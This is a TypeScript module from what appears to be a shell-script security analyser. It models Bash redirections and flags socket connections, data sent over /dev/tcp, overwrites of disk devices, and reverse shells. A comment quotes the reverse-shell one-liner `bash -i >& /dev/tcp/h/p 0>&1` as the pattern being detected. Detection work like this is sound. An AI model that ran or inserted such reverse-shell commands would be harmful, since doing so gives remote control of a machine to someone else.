import type { Value } from "../../../model/value.ts";
import { concatenate, constant, unknown } from "../../value.ts";
import { expandText, type Expansion } from "../expand/expand-word.ts";
import { isShell } from "../programs/shells.ts";
import type { Redirect } from "../syntax/tree.ts";
import type { Argument, Call } from "./call.ts";
import type { State } from "./state.ts";
import { dropFirst, EMPTY } from "./values.ts";

/** Bash's own network files (Bash manual, 3.6). */
const SOCKET = /^\/dev\/(?:tcp|udp)\//u;
/** Nothing is kept there. */
const NOWHERE = /^\/dev\/(?:null|stdout|stderr|stdin|tty|fd\/\d+|full|zero)$|^(?:NUL|nul)$/u;
export const DISK = /^\/dev\/(?:sd|nvme|hd|r?disk|mmcblk|vd|xvd)/u;

function socketOf(target: Value): Value | null {
  if (!SOCKET.test(target.shape)) return null;
  const rest = dropFirst(target, "/dev/tcp/".length);
  const shape = rest.shape.replace("/", ":");
  return { ...rest, text: rest.text === null ? null : shape, shape };
}

const DESCRIPTOR = /^\/(?:dev|proc\/self)\/fd\/(\d{1,3})$/u;

/** `/dev/fd/3`: what `exec 3< …` has opened. */
export function openedAs(path: Value, state: State): Value | undefined {
  const descriptor = DESCRIPTOR.exec(path.shape)?.[1];
  return descriptor === undefined ? undefined : state.inputs.get(Number(descriptor));
}

/** What `<`, `<<` and `<<<` give to a command; null: nothing of the kind. */
export function redirectInput(redirects: readonly Redirect[], call: Call, expansion: Expansion): Argument | null {
  let input: Argument | null = null;
  for (const redirect of redirects) {
    const { operator, target } = redirect;
    if (operator === "<<" || operator === "<<<") {
      input = { value: expandText(target, expansion), word: target };
      continue;
    }
    if (operator !== "<" && operator !== "<>" && operator !== "<&") continue;
    const path = expandText(target, expansion);
    const peer = operator === "<&" ? (call.state.sockets.get(Number(path.text)) ?? null) : socketOf(path);
    const opened = operator === "<&" ? call.state.inputs.get(Number(path.text ?? "x")) : openedAs(path, call.state);
    if (opened !== undefined) input = { value: opened, word: null };
    if (peer !== null) {
      if (operator !== "<&") connect(redirect, peer, call);
      input = { value: fromSocket(peer, call), word: null };
    } else if (operator !== "<&") {
      const content = call.state.processes.get(path);
      if (content !== undefined) input = { value: content, word: null };
      else if (path.shape !== "" && !NOWHERE.test(path.shape)) {
        call.tell({ op: "read-file", path });
        input = { value: call.contentOf(path), word: null };
      }
      if (redirect.descriptor !== null && call.name === "exec" && input !== null)
        call.state.inputs.set(redirect.descriptor, input.value);
    }
  }
  return input;
}

function fromSocket(peer: Value, call: Call): Value {
  return unknown([call.origin({ kind: "network", url: `tcp://${peer.shape}` }), ...peer.origins]);
}

function connect(redirect: Redirect, peer: Value, call: Call): void {
  call.tell({ op: "connect", peer });
  if (redirect.descriptor !== null) call.state.sockets.set(redirect.descriptor, peer);
}

/** Hands what a command prints to the files it is sent to. Gives what is left for the pipe. */
export function redirectOutput(
  redirects: readonly Redirect[],
  printed: Value,
  call: Call,
  expansion: Expansion,
): Value {
  let left = printed;
  for (const redirect of redirects) {
    const { operator, target, descriptor } = redirect;
    if (!operator.includes(">") || operator === "<>") continue;
    const written = expandText(target, expansion);
    const path = (operator === ">&" ? call.state.outputs.get(Number(written.text ?? "x")) : undefined) ?? written;
    if (descriptor !== null && descriptor > 2 && call.name === "exec" && operator !== ">&")
      call.state.outputs.set(descriptor, path);
    const peer =
      operator === ">&" && /^\d{1,3}$/u.test(path.shape)
        ? (call.state.sockets.get(Number(path.shape)) ?? null)
        : socketOf(path);
    if (peer !== null) {
      if (SOCKET.test(path.shape)) connect(redirect, peer, call);
      if (descriptor !== 2 && left.shape !== "") {
        call.tell({ op: "send", channel: "socket", destination: peer, payload: [left] });
        left = EMPTY;
      }
      continue;
    }
    if (path.shape === "" || NOWHERE.test(path.shape)) {
      if (descriptor !== 2 && (operator === ">" || operator === ">>" || operator === "&>")) left = EMPTY;
      continue;
    }
    if (operator === ">&" && /^(?:\d{1,3}-?|-)$/u.test(path.shape)) continue;
    if (DISK.test(path.shape)) {
      call.tell({ op: "delete-file", path, recursive: true });
      continue;
    }
    const isError = descriptor === 2;
    const isFed = call.state.processes.has(path) && (left.shape === "" || call.feed(path, left));
    if (!isFed) call.write(path, isError ? null : left, operator.includes(">>"));
    if (!isError) left = EMPTY;
  }
  return left;
}

/** `bash -i >& /dev/tcp/h/p 0>&1`, `sh <&5 >&5`: the reverse shell itself. */
export function attachedToSocket(redirects: readonly Redirect[], call: Call, expansion: Expansion): boolean {
  if (redirects.length === 0) return false;
  const isTied =
    isShell(call.name) ||
    (call.program.value.text === null && call.program.value.origins.some((origin) => origin.kind === "network"));
  if (call.name === "exec" && call.arguments.length === 0) return false;
  const target =
    call.name === "exec" || call.name === "nohup" || call.name === "setsid" || call.name === "sudo"
      ? (call.arguments[0]?.value.shape ?? "")
      : call.name;
  if (!isTied && !isShell(target)) return false;
  for (const { operator, target: word } of redirects) {
    if (operator.startsWith("<<")) continue;
    const path = expandText(word, expansion);
    const peer = /^\d{1,3}$/u.test(path.shape) ? (call.state.sockets.get(Number(path.shape)) ?? null) : socketOf(path);
    // `bash </dev/tcp/h/p` only takes orders; its output going there too makes it a shell for somebody else.
    if (peer === null || (!operator.includes(">") && !redirects.some((other) => other.operator.includes(">"))))
      continue;
    call.tell({ op: "attach-shell", peer, direction: "reverse" });
    return true;
  }
  return false;
}

/** `h` and `p` as `h:p`. */
export function peerOf(host: Value, port: Value | undefined): Value {
  return port === undefined ? host : concatenate([host, constant(":"), port]);
}

export const UNKNOWN_PEER = unknown();
